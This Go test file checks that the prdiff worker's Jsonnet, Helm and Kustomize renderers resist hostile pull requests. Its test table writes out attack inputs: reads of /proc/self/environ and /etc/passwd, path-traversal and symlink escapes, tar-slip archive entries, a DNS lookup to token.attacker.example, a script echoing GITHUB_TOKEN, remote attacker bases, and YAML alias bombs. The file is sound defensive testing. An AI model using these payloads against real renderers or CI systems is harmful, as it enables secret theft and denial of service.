package worker

import (
	"archive/tar"
	"bytes"
	"compress/gzip"
	"context"
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/prdiff/prdiff/internal/source"
	"github.com/prdiff/prdiff/render"
	"github.com/prdiff/prdiff/render/helm"
	"github.com/prdiff/prdiff/render/jsonnet"
	"github.com/prdiff/prdiff/render/kustomize"
	"github.com/prdiff/prdiff/render/tanka"
)

// engines are the real renderers, in the children of these tests.
func engines() []render.Renderer {
	natives := jsonnet.Natives{
		Helm: func(_ context.Context, call jsonnet.HelmCall) (string, error) {
			text, _, err := helm.Text(call.Tree, call.Chart, helm.Release{Name: call.Release, Values: call.Values})
			return text, err
		},
		Kustomize: func(_ context.Context, call jsonnet.KustomizeCall) (string, error) {
			return kustomize.Text(call.Tree, call.Path)
		},
	}
	return []render.Renderer{&tanka.Renderer{Engine: &jsonnet.Engine{Natives: natives}}, helm.New(helm.Options{}), kustomize.New(kustomize.Options{})}
}

// A token is in this process's environment, and a secret in a file beside the
// tree: neither may come out of any attack.
const (
	token   = "ghp_0a1b2c3d4e5f6071829304a5b6c7d8e9f0a1"
	outside = "content-of-a-file-outside"
)

// kustomizationOf is a kustomization with one more field.
func kustomizationOf(field string) map[string]string {
	return map[string]string{"u/kustomization.yaml": "apiVersion: kustomize.config.k8s.io/v1beta1\nkind: Kustomization\n" + field + "\n"}
}

// chartOf is a chart with one template.
func chartOf(template string) map[string]string {
	return map[string]string{
		"u/Chart.yaml":       "apiVersion: v2\nname: u\nversion: 1.0.0\n",
		"u/templates/x.yaml": "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: x}\ndata:\n  x: " + template + "\n",
	}
}

func mainOf(code string) map[string]string {
	return map[string]string{"jsonnetfile.json": "{}", "u/spec.json": "{}", "u/main.jsonnet": code}
}

func configMap(value string) string {
	return "{ apiVersion: 'v1', kind: 'ConfigMap', metadata: { name: 'x' }, data: { x: " + value + " } }"
}

// packed is a chart's archive with one more entry.
func packed(t *testing.T, entry tar.Header, content string) string {
	t.Helper()
	var b bytes.Buffer
	z := gzip.NewWriter(&b)
	w := tar.NewWriter(z)
	for _, e := range []struct {
		tar.Header
		content string
	}{
		{tar.Header{Name: "sub/Chart.yaml", Typeflag: tar.TypeReg, Mode: 0o644}, "apiVersion: v2\nname: sub\nversion: 1.0.0\n"},
		{entry, content},
	} {
		e.Size = int64(len(e.content))
		if err := w.WriteHeader(&e.Header); err != nil {
			t.Fatal(err)
		}
		if _, err := w.Write([]byte(e.content)); err != nil {
			t.Fatal(err)
		}
	}
	if err := errors.Join(w.Close(), z.Close()); err != nil {
		t.Fatal(err)
	}
	return b.String()
}

func withArchive(archive string) map[string]string {
	files := chartOf("y")
	files["u/Chart.yaml"] += "dependencies: [{name: sub, version: 1.0.0, repository: 'https://charts.example'}]\n"
	files["u/charts/sub-1.0.0.tgz"] = archive
	return files
}

// TestAttacks renders what hostile pull requests hold. Each ends with an error of
// its unit that says why, within its limit, and the child's successor goes on.
func TestAttacks(t *testing.T) {
	t.Setenv("GITHUB_TOKEN", token)
	fast := Options{Jobs: 1, Timeout: 20 * time.Second, Memory: 512 << 20}
	short := Options{Jobs: 1, Timeout: time.Second, Memory: 2 << 30}
	tests := []struct {
		name, renderer string
		options        Options
		files          map[string]string
		links          map[string]string
		// want is a part of the error; "" when it is no error, and want's absence
		// is what counts: that nothing of the outside is in the output.
		want string
	}{
		{"jsonnet reads the environment of the process", "tanka", fast, mainOf(configMap("importstr '/proc/self/environ'")), nil, `"/proc/self/environ": absolute paths are not read`},
		{"jsonnet reads a file of the machine", "tanka", fast, mainOf(configMap("importstr '/etc/passwd'")), nil, "paths are not read, only files of the repository"},
		{"jsonnet climbs out of the tree", "tanka", fast, mainOf(configMap("importstr '../../outside'")), nil, "paths that lead out of the repository are not followed"},
		{"jsonnet climbs far out of the tree", "tanka", fast, mainOf(configMap("importstr '../../../../../../../../../../../../etc/passwd'")), nil, "paths that lead out of the repository are not followed"},
		{"jsonnet follows a link out of the tree", "tanka", fast, mainOf(configMap("importstr 'link'")), map[string]string{"u/link": "../../outside"}, "the link leads out of the tree"},
		{"jsonnet follows a link to the machine", "tanka", fast, mainOf(configMap("importstr 'link'")), map[string]string{"u/link": "/etc/passwd"}, "the link leads out of the tree"},
		{"jsonnet follows a link to a folder outside", "tanka", fast, mainOf(configMap("importstr 'link/self/environ'")), map[string]string{"u/link": "/proc"}, "the link leads out of the tree"},
		{"jsonnet imports as bytes what it may not read", "tanka", fast, mainOf(configMap("std.toString(importbin '/proc/self/environ')")), nil, "absolute paths are not read"},
		{"the entry point is a link out of the tree", "tanka", fast, map[string]string{"jsonnetfile.json": "{}", "u/spec.json": "{}"}, map[string]string{"u/main.jsonnet": "../../outside"}, "link leads out"},
		{"jsonnet recurses", "tanka", fast, mainOf("local f(x) = f(x + 1) + 1; f(0)"), nil, "max stack frames exceeded"},
		{"jsonnet imports itself", "tanka", fast, mainOf("import 'main.jsonnet'"), nil, "max stack frames exceeded"},
		{"jsonnet loops", "tanka", short, mainOf("local sum(n, f) = std.foldl(function(a, i) a + f(i), std.range(1, n), 0); sum(1e4, function(i) sum(1e4, function(j) sum(1e4, function(k) 1)))"), nil, "stopped after 1 s (--timeout)"},
		{"jsonnet calls itself at its tail", "tanka", fast, mainOf("local f(x) = f(x + 1) tailstrict; f(0)"), nil, "needed more than 512 MiB|recursed until its stack was larger"},
		{"jsonnet repeats a text 100 thousand million times", "tanka", fast, mainOf(configMap("std.repeat('x', 1e11)")), nil, ""},
		{"jsonnet doubles a text 40 times", "tanka", fast, mainOf(configMap("std.foldl(function(a, i) a + a, std.range(1, 40), 'x')")), nil, "needed more than 512 MiB"},
		{"jsonnet makes a long list", "tanka", fast, mainOf(configMap("std.toString(std.range(1, 1e9))")), nil, "needed more than 512 MiB"},
		{"jsonnet makes a list that no memory holds", "tanka", fast, mainOf(configMap("std.toString(std.makeArray(1e15, function(i) i))")), nil, ""},
		{"jsonnet nests 200,000 levels", "tanka", fast, mainOf(strings.Repeat("[", 200_000) + strings.Repeat("]", 200_000)), nil, "nest more than"},
		{"jsonnet's value nests without an end", "tanka", fast, mainOf("local f(x) = { a: f(x + 1) }; f(0)"), nil, "max stack frames exceeded"},
		{"jsonnet throws a long error", "tanka", fast, mainOf("error std.join('', [std.repeat('long ', 1000) for i in std.range(1, 50)])"), nil, "long long"},
		{"jsonnet parses a YAML bomb", "tanka", fast, mainOf("std.native('parseYaml')(importstr 'bomb.yaml')"), nil, "excessive aliasing"},
		{"jsonnet parses deep YAML", "tanka", fast, mainOf("std.native('parseYaml')(std.join('', std.makeArray(200000, function(i) '[')))"), nil, "exceeded max depth"},
		{"jsonnet parses deep JSON", "tanka", fast, mainOf("std.native('parseJson')(std.join('', std.makeArray(200000, function(i) '[')))"), nil, "exceeded max depth"},
		{"spec.json is a link out of the tree", "tanka", fast, map[string]string{"jsonnetfile.json": "{}", "u/main.jsonnet": "{}"}, map[string]string{"u/spec.json": "../../outside"}, "outside"},

		{"a template reads the environment", "helm", fast, chartOf(`{{ env "GITHUB_TOKEN" }}`), nil, `function "env" not defined`},
		{"a template expands the environment", "helm", fast, chartOf(`{{ expandenv "$GITHUB_TOKEN" }}`), nil, `function "expandenv" not defined`},
		{"a template looks up a host", "helm", fast, chartOf(`{{ getHostByName "token.attacker.example" | quote }}`), nil, ""},
		{"a template calls itself by tpl", "helm", short, chartOf(`{{ define "f" }}{{ tpl "{{ include \"f\" . }}" . }}{{ end }}{{ include "f" . }}`), nil, "error calling tpl|stopped after 1 s (--timeout)"}, // Helm's own bound, or time on a slow machine
		{"a template includes itself", "helm", fast, chartOf(`{{ define "f" }}{{ template "f" . }}{{ end }}{{ template "f" . }}`), nil, "exceeded maximum template depth"},
		{"a template repeats a text 100 thousand million times", "helm", fast, chartOf(`{{ repeat 100000000000 "x" }}`), nil, ""},
		{"a template repeats repeats", "helm", fast, chartOf(`{{ repeat 100000 (repeat 100000 "x") }}`), nil, "needed more than 512 MiB"},
		{"a template loops", "helm", short, chartOf(`{{ range untilStep 0 2000000000 1 }}{{ end }}`), nil, ""},
		{"a template loops in loops", "helm", short, chartOf(`{{ range until 100000 }}{{ range until 100000 }}{{ end }}{{ end }}`), nil, "stopped after 1 s (--timeout)"},
		{"a template reads a file above the chart", "helm", fast, chartOf(`{{ .Files.Get "../../outside" | quote }}`), nil, ""},
		{"a template reads a file of the machine", "helm", fast, chartOf(`{{ .Files.Get "/etc/passwd" | quote }}`), nil, ""},
		{"a chart has a link out of the tree", "helm", fast, chartOf(`{{ .Files.Get "link" }}`), map[string]string{"u/link": "../../outside"}, "link leads outside"},
		{"a chart has a link to a folder above it", "helm", fast, chartOf("y"), map[string]string{"u/files": ".."}, "u/files"},
		{"a chart's dependency is outside", "helm", fast, func() map[string]string {
			f := chartOf("y")
			f["u/Chart.yaml"] += "dependencies: [{name: sub, version: 1.0.0, repository: 'file://../../../etc'}]\n"
			return f
		}(), nil, "sub"},
		{"an archive writes above the chart", "helm", fast, withArchive(packed(t, tar.Header{Name: "sub/../../../outside.yaml", Typeflag: tar.TypeReg, Mode: 0o644}, "x")), nil, "illegally references parent directory"},
		{"an archive has an absolute path", "helm", fast, withArchive(packed(t, tar.Header{Name: "/etc/outside.yaml", Typeflag: tar.TypeReg, Mode: 0o644}, "x")), nil, ""},
		{"an archive holds a link", "helm", fast, withArchive(packed(t, tar.Header{Name: "sub/templates/x.yaml", Typeflag: tar.TypeSymlink, Linkname: "/etc/passwd"}, "")), nil, ""},
		{"an archive unpacks to a gigabyte", "helm", fast, withArchive(packed(t, tar.Header{Name: "sub/big", Typeflag: tar.TypeReg, Mode: 0o644}, strings.Repeat("\x00", 200<<20))), nil, "larger than the maximum"},
		{"a chart's values are a bomb", "helm", fast, func() map[string]string { f := chartOf("y"); f["u/values.yaml"] = bomb; return f }(), nil, "excessive aliasing"},

		{"a remote base", "kustomize", fast, kustomizationOf("resources: ['https://github.com/attacker/base?ref=main']"), nil, "remote"},
		{"a remote base by git", "kustomize", fast, kustomizationOf("resources: ['git::ssh://git@attacker.example/base']"), nil, "remote"},
		{"a remote base without a scheme", "kustomize", fast, kustomizationOf("bases: ['github.com/attacker/base']"), nil, "remote"},
		{"a program as generator", "kustomize", fast, func() map[string]string {
			f := kustomizationOf("generators: [g.yaml]")
			f["u/g.yaml"] = "apiVersion: v1\nkind: Evil\nmetadata:\n  name: x\n  annotations:\n    config.kubernetes.io/function: |\n      exec: {path: ./evil.sh}\n"
			f["u/evil.sh"] = "#!/bin/sh\necho $GITHUB_TOKEN\n"
			return f
		}(), nil, "u/"},
		{"a container as transformer", "kustomize", fast, func() map[string]string {
			f := kustomizationOf("transformers: [g.yaml]")
			f["u/g.yaml"] = "apiVersion: v1\nkind: Evil\nmetadata:\n  name: x\n  annotations:\n    config.kubernetes.io/function: |\n      container: {image: attacker.example/evil}\n"
			return f
		}(), nil, "u/"},
		{"a generator reads the machine", "kustomize", fast, kustomizationOf("configMapGenerator: [{name: x, files: [/etc/passwd]}]"), nil, "etc/passwd"},
		{"a generator reads above the tree", "kustomize", fast, kustomizationOf("configMapGenerator: [{name: x, files: [../../outside]}]"), nil, "outside"},
		{"a generator reads the environment", "kustomize", fast, kustomizationOf("configMapGenerator: [{name: x, envs: [/proc/self/environ]}]"), nil, "environ"},
		{"a generator names a variable", "kustomize", fast, func() map[string]string {
			f := kustomizationOf("configMapGenerator: [{name: x, envs: [e]}]")
			f["u/e"] = "GITHUB_TOKEN\n"
			return f
		}(), nil, ""},
		{"a generator follows a link", "kustomize", fast, kustomizationOf("configMapGenerator: [{name: x, files: [link]}]"), map[string]string{"u/link": "../../outside"}, "link leads outside"},
		{"a kustomization includes itself", "kustomize", fast, kustomizationOf("resources: ['../u']"), nil, "u"},
		{"a resource is a bomb", "kustomize", fast, func() map[string]string {
			f := kustomizationOf("resources: [bomb.yaml]")
			f["u/bomb.yaml"] = bomb
			return f
		}(), nil, "needed more than 512 MiB"},
		{"a resource nests 200,000 levels", "kustomize", fast, func() map[string]string {
			f := kustomizationOf("resources: [deep.yaml]")
			f["u/deep.yaml"] = "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: x}\ndata: " + strings.Repeat("[", 200_000)
			return f
		}(), nil, "u/"},
		{"a chart by the helm program", "kustomize", fast, kustomizationOf("helmCharts: [{name: c, repo: 'https://attacker.example', version: 1.0.0}]"), nil, "not vendored"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			dir := t.TempDir()
			write(t, filepath.Join(dir, "outside"), outside)
			for name, text := range tt.files {
				write(t, filepath.Join(dir, "tree", filepath.FromSlash(name)), text)
			}
			if tt.renderer == "tanka" {
				write(t, filepath.Join(dir, "tree", "u", "bomb.yaml"), bomb)
			}
			for name, target := range tt.links {
				if err := os.Symlink(target, filepath.Join(dir, "tree", filepath.FromSlash(name))); err != nil {
					t.Fatal(err)
				}
			}
			src, err := source.Paths(filepath.Join(dir, "tree"), filepath.Join(dir, "tree"), source.Options{})
			if err != nil {
				t.Fatal(err)
			}
			defer src.Close()
			tree, err := src.Head(t.Context())
			if err != nil {
				t.Fatal(err)
			}
			side := pool(t, tt.options).Side(tree, nil)
			out, err := side.Render(t.Context(), render.Unit{Renderer: tt.renderer, Path: "u"})
			switch {
			case err != nil:
			case len(out.Problems) > 0:
				err = out.Problems[0]
			case out.Partial != "":
				err = errors.New(out.Partial)
			}
			said := fmt.Sprint(err)
			if out != nil {
				said += strings.Join(out.Notes, " ")
				for _, p := range out.Parts {
					for _, o := range p.Objects {
						said += string(o.AppendWire(nil))
					}
				}
			}
			switch {
			case strings.Contains(said, token) || strings.Contains(said, outside) || strings.Contains(said, "root:x:"):
				t.Errorf("it sees what it must not: %.200s", said)
			case tt.want != "" && (err == nil || !slices.ContainsFunc(strings.Split(tt.want, "|"), func(want string) bool { return strings.Contains(err.Error(), want) })):
				t.Errorf("got %.300v, want %q", err, tt.want)
			case len(said) > 100<<10:
				t.Errorf("it says %d bytes", len(said))
			default:
				t.Logf("%.200v", err)
			}
			if _, err := side.Render(t.Context(), render.Unit{Renderer: "skip"}); fmt.Sprint(err) != "not vendored" {
				t.Errorf("the next unit: %v", err)
			}
		})
	}
}

// bomb is YAML that its aliases make a thousand million items of.
var bomb = func() string {
	var b strings.Builder
	b.WriteString("a0: &a0 [x, x, x, x, x, x, x, x, x, x]\n")
	for i := 1; i < 9; i++ {
		fmt.Fprintf(&b, "a%d: &a%d [%s]\n", i, i, strings.TrimSuffix(strings.Repeat(fmt.Sprintf("*a%d, ", i-1), 10), ", "))
	}
	return b.String()
}()

func write(t *testing.T, name, text string) {
	t.Helper()
	if err := os.MkdirAll(filepath.Dir(name), 0o700); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(name, []byte(text), 0o600); err != nil {
		t.Fatal(err)
	}
}
